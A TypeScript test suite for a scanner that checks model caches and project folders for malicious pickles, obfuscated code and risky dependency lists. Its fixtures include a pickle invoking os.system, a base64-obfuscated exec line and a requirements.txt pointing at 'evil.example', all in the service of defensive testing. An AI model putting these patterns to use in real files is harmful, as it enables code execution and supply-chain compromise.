import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { linkSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { after, describe, it } from 'node:test';
import { discover, inspectDependencies, type ScanReport, scanFiles } from '../src/index.ts';
import { dict, pickle, reduce, stackGlobal, text, whole } from './corpus/assembler.ts';

const folder = mkdtempSync(join(tmpdir(), 'sallyport-tree-'));
after(() => rmSync(folder, { recursive: true, force: true }));
const at = (...parts: string[]): string => join(folder, ...parts);
const put = (path: string, content: string | Uint8Array): string => {
  mkdirSync(dirname(at(path)), { recursive: true });
  writeFileSync(at(path), content);
  return at(path);
};
const link = (target: string, path: string): void => {
  mkdirSync(dirname(at(path)), { recursive: true });
  symlinkSync(target, at(path));
};
const HARM = pickle(4, reduce(stackGlobal('os', 'system'), text('x')));
const GOOD = pickle(4, dict({ a: whole(1) }));
/** Python that is read as such only where its name says so. */
const HIDDEN = `import base64\nexec(base64.b64decode("${Buffer.from('print(1)'.repeat(20)).toString('base64')}"))\n`;
const told = (report: ScanReport, root: string): Record<string, string> =>
  Object.fromEntries(report.files.map(({ path, verdict }) => [relative(at(root), path), verdict]));
const techniques = (report: ScanReport, end: string): string[] =>
  report.files
    .filter(({ path }) => path.endsWith(end))
    .flatMap(({ detections }) => detections.map(({ technique }) => technique));

/** A cache of Hugging Face as its client lays it out. */
function cache(root: string, files: Record<string, string | Uint8Array>): string {
  const commit = 'c'.repeat(40);
  for (const [name, content] of Object.entries(files)) {
    const digest = createHash('sha256').update(content).digest('hex');
    put(`${root}/blobs/${digest}`, content);
    link(`../../blobs/${digest}`, `${root}/snapshots/${commit}/${name}`);
  }
  put(`${root}/refs/main`, commit);
  return `${root}/snapshots/${commit}`;
}

describe('names', () => {
  it('are judged each, however many of them one content has: a cache of Hugging Face', async () => {
    const files = { 'modeling.py': HIDDEN, 'requirements.txt': '--index-url http://evil.example\nleft==1\n' };
    const snapshot = cache('hub/models--a--b', files);
    const whole = await scanFiles([at('hub')]);
    const bad = Object.entries(told(whole, snapshot)).filter(([, verdict]) => verdict === 'suspicious');
    assert.deepEqual(
      bad.map(([name]) => name),
      ['modeling.py', 'requirements.txt'],
    );
    assert.equal(whole.summary.files, 5);
    const own = await scanFiles([at(snapshot)]);
    assert.deepEqual(told(own, snapshot), { 'modeling.py': 'suspicious', 'requirements.txt': 'suspicious' });
    const locks = await inspectDependencies([at('hub')], null);
    assert.deepEqual(
      locks.files.map(({ path }) => path.split('/').at(-1)),
      ['requirements.txt'],
    );
  });

  it('of hard links and of links within, to files and folders, are judged each', async () => {
    put('within/a.txt', HIDDEN);
    linkSync(at('within/a.txt'), at('within/b.py'));
    link('a.txt', 'within/c.py');
    put('within/real/deep/d.py', HIDDEN);
    link('real', 'within/z');
    const report = await scanFiles([at('within')]);
    assert.deepEqual(told(report, 'within'), {
      'a.txt': 'unrecognised',
      'b.py': 'suspicious',
      'c.py': 'suspicious',
      'real/deep/d.py': 'suspicious',
      'z/deep/d.py': 'suspicious',
    });
    const hits = await discover([at('within')]);
    assert.equal(hits.summary.files, 5);
  });

  it('that lead out, nowhere, round, or to no file are told, and nothing behind them is opened', async () => {
    put('outside/secret.pkl', HARM);
    put('bounds/in/good.pkl', GOOD);
    link('../../outside/secret.pkl', 'bounds/in/out.pkl');
    link('../../outside', 'bounds/in/folder');
    // Beside it, under a name that begins alike.
    put('bounds-beside/secret.pkl', HARM);
    link('../../bounds-beside/secret.pkl', 'bounds/in/beside.pkl');
    link('nowhere', 'bounds/in/dangling.pkl');
    link('loop.pkl', 'bounds/in/loop.pkl');
    link('..', 'bounds/in/up');
    link('.', 'bounds/in/self');
    execFileSync('/usr/bin/mkfifo', [at('bounds/in/pipe.pkl')]);
    link('pipe.pkl', 'bounds/in/piped.pkl');
    link('/dev/zero', 'bounds/in/zero.pkl');
    const socket = createServer();
    await new Promise<void>((go) => socket.listen(at('bounds/in/socket'), go));
    const report = await scanFiles([at('bounds')]);
    socket.close();
    assert.deepEqual(told(report, 'bounds'), {
      'in/beside.pkl': 'incomplete',
      'in/dangling.pkl': 'incomplete',
      'in/folder': 'incomplete',
      'in/good.pkl': 'clean',
      'in/loop.pkl': 'incomplete',
      'in/out.pkl': 'incomplete',
      'in/pipe.pkl': 'incomplete',
      'in/piped.pkl': 'incomplete',
      'in/self': 'review',
      'in/socket': 'incomplete',
      'in/up': 'review',
      'in/zero.pkl': 'incomplete',
    });
    const followed = await scanFiles([at('bounds')], { followLinks: true });
    assert.equal(told(followed, 'bounds')['in/out.pkl'], 'malicious');
    assert.equal(told(followed, 'bounds')['in/folder/secret.pkl'], 'malicious');
    assert.equal(told(followed, 'bounds')['in/zero.pkl'], 'incomplete');
    const both = await scanFiles([at('bounds'), at('outside')]);
    assert.equal(told(both, 'bounds')['in/out.pkl'], 'malicious', 'what is scanned anyway is not outside');
    assert.deepEqual(told(await scanFiles([at('bounds/in/pipe.pkl')]), 'bounds'), {
      'in/pipe.pkl': 'incomplete',
    });
  });

  it('do not multiply without end', async () => {
    for (let i = 0; i < 24; i++) {
      mkdirSync(at(`many/${i}`), { recursive: true });
      link(`../${i + 1}`, `many/${i}/a`);
      link(`../${i + 1}`, `many/${i}/b`);
    }
    put('many/24/end.pkl', HARM);
    const report = await scanFiles([at('many')]);
    assert.equal(report.summary.verdict, 'malicious');
    assert.ok(report.files.length < 20_000, String(report.files.length));
  });

  it('that are no text, and folders that may not be read, stop nothing and are never clean', async (t) => {
    const odd = Buffer.concat([Buffer.from(at('odd/x')), Buffer.from([0xff, 0x2e]), Buffer.from('pkl')]);
    mkdirSync(at('odd'), { recursive: true });
    writeFileSync(odd, HARM);
    const shut = Buffer.concat([Buffer.from(at('odd/')), Buffer.from([0xfe])]);
    mkdirSync(shut);
    writeFileSync(Buffer.concat([shut, Buffer.from('/inner.pkl')]), HARM);
    put('odd/good.pkl', GOOD);
    const report = await scanFiles([at('odd')]);
    assert.deepEqual(told(report, 'odd'), {
      'good.pkl': 'clean',
      'x\\xff.pkl': 'malicious',
      '\\xfe/inner.pkl': 'malicious',
    });
    const threads = await scanFiles([at('odd')], { workers: 3 });
    assert.deepEqual(threads, report);
    if (process.getuid?.() === 0) t.diagnostic('runs as root: folders that may not be read are not tried');
  });

  it('that differ by case or form only are told', async () => {
    put('twins/Model.pkl', GOOD);
    put('twins/model.pkl', GOOD);
    put('twins/caf\u00e9.pkl', GOOD);
    put('twins/cafe\u0301.pkl', GOOD);
    const report = await scanFiles([at('twins')]);
    assert.equal(report.summary.verdicts.review, 2);
    assert.deepEqual(
      report.files.flatMap(({ detections }) => detections.map(({ technique }) => technique)),
      ['name-twins', 'name-twins'],
    );
  });
});

describe('folders that are passed over', () => {
  const passed = { passInstalled: true };

  it('are named, and count as incomplete where they hold a model or a list of packages', async () => {
    put('app/main.py', 'x = 1\n');
    put('app/node_modules/left/index.js', 'module.exports = 1;\n');
    put('app/deep/node_modules/evil/model.pkl', HARM);
    put('app/other/site-packages/hidden/weights', HARM);
    put('app/third/venv/requirements.txt', 'left==1\n');
    link('../../kept', 'app/fourth/venv/model.pkl');
    const report = await scanFiles([at('app')], passed);
    assert.deepEqual(
      report.skipped.map(({ path, holds, excluded }) => [
        relative(at('app'), path),
        holds !== null,
        excluded,
      ]),
      [
        ['deep/node_modules', true, false],
        ['fourth/venv', true, false],
        ['node_modules', false, false],
        ['other/site-packages', true, false],
        ['third/venv', true, false],
      ],
    );
    assert.deepEqual(told(report, 'app'), {
      'deep/node_modules': 'incomplete',
      'fourth/venv': 'incomplete',
      'main.py': 'clean',
      'other/site-packages': 'incomplete',
      'third/venv': 'incomplete',
    });
    assert.deepEqual(techniques(report, 'deep/node_modules'), ['skipped-folder']);
    const out = await scanFiles([at('app')], {
      ...passed,
      exclude: ['node_modules', 'site-packages', 'venv'],
    });
    assert.deepEqual(told(out, 'app'), { 'main.py': 'clean' });
    assert.deepEqual(new Set(out.skipped.map(({ excluded }) => excluded)), new Set([true]));
    const entered = await scanFiles([at('app'), at('app/deep/node_modules')], passed);
    assert.equal(
      told(entered, 'app')['deep/node_modules/evil/model.pkl'],
      'malicious',
      'named, so looked into',
    );
  });

  it('are no fault for what their own tools write there, and one for a model among it', async () => {
    const lock = '{"lockfileVersion":3,"packages":{}}';
    put('tidy/node_modules/.package-lock.json', lock);
    put('tidy/node_modules/left/package.json', '{"name":"left","version":"1.0.0"}');
    put('tidy/node_modules/left/yarn.lock', '# yarn lockfile v1\n');
    put('tidy/node_modules/@a/b/node_modules/c/package-lock.json', lock);
    for (const venv of ['tidy/.venv/lib/python3.12/site-packages', 'tidy/x/site-packages']) {
      put(`${venv}/distutils-precedence.pth`, 'import os; enabled = 1;\n');
      put(`${venv}/left-1.0.dist-info/RECORD`, 'left/__init__.py,,\n');
      put(`${venv}/left-1.0.dist-info/METADATA`, 'Name: left\nVersion: 1.0\n');
    }
    const tidy = await scanFiles([at('tidy')], passed);
    assert.deepEqual(
      tidy.skipped.map(({ holds }) => holds),
      [null, null, null],
    );
    assert.equal(tidy.summary.verdict, 'unrecognised');
    const held: Readonly<Record<string, string | Buffer>> = {
      'node_modules/left/model.pkl': HARM,
      'node_modules/package-lock.json': lock,
      'node_modules/.hidden/yarn.lock': '# yarn lockfile v1\n',
      'node_modules/left/requirements.txt': 'left==1\n',
      'site-packages/evil.pth': HARM,
      'site-packages/left/model.pth': 'text',
    };
    for (const [index, [name, content]] of Object.entries(held).entries()) {
      put(`held${index}/${name}`, content);
      const { skipped } = await scanFiles([at(`held${index}`)], passed);
      assert.equal(skipped[0]!.holds, name.slice(name.indexOf('/') + 1), name);
    }
  });

  it('are one list for every way of looking, by their own name and not by one above', async () => {
    put('build/target/vendor/src/app.ts', "import OpenAI from 'openai';\n");
    put('build/target/vendor/src/requirements.txt', 'left==1\n');
    assert.equal((await discover([at('build/target/vendor')])).hits.length, 1);
    assert.equal((await inspectDependencies([at('build')], null)).files.length, 1);
    put('both/node_modules/x/requirements.txt', 'left==1\n');
    const [a, b, c] = [
      await discover([at('both')]),
      await inspectDependencies([at('both')], null),
      await scanFiles([at('both')], passed),
    ];
    for (const report of [a, b, c]) {
      assert.equal(report.summary.verdict, 'incomplete');
      assert.deepEqual(
        report.skipped.map(({ path }) => relative(at('both'), path)),
        ['node_modules'],
      );
    }
  });

  it("leave git's own store alone, and nothing else that lies in a folder of its name", async () => {
    put('repo/.git/HEAD', 'ref: refs/heads/main\n');
    put('repo/.git/objects/ab/cdef', Buffer.from([0x78, 0x01, 0, 0]));
    mkdirSync(at('repo/.git/refs'), { recursive: true });
    put('fake/.git/weights.pkl', HARM);
    assert.equal((await scanFiles([at('repo')], passed)).summary.verdict, 'unrecognised');
    assert.equal((await scanFiles([at('fake')], passed)).summary.verdict, 'incomplete');
  });
});
